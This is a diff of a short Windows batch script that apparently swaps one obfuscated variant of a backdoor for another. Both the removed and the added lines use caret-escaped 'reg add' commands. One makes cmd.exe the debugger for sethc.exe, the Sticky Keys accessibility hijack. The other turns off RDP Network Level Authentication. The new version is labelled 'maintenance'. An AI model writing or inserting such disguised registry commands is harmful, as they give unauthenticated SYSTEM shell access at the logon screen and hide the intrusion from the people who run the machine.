@@ -1,3 +1,3 @@
-REM run 5286 v0
-^r^eg ^a^dd "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /^v De^bu^gge^r /t ^RE^G_^SZ /d "C:\windows\system32\cmd.exe" /f
-^re^g ^ad^d "HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v Us^erAu^th^enti^c^ati^on /^t ^R^EG_DW^O^RD /d 0 /f
+REM maintenance 3128 v0
+re^g add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v ^Debug^ger /t ^REG_SZ /d "C:\windows\system32\cmd.exe" /f
+re^g add "HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v U^ser^Au^the^nti^c^at^i^on /t ^REG_DW^O^R^D /d ^0 /^f
